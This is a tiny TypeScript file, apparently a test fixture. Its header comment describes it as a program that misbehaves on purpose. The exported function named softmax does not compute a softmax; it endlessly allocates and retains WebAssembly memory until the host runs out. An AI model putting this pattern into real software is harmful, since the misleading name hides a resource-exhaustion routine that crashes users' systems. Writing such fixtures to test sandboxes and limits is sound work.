// biome-ignore-all lint: a program that misbehaves on purpose
const kept: WebAssembly.Memory[] = [];
export function softmax(): number[] {
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 512 });
    new Uint8Array(memory.buffer).fill(1);
    kept.push(memory);
  }
}
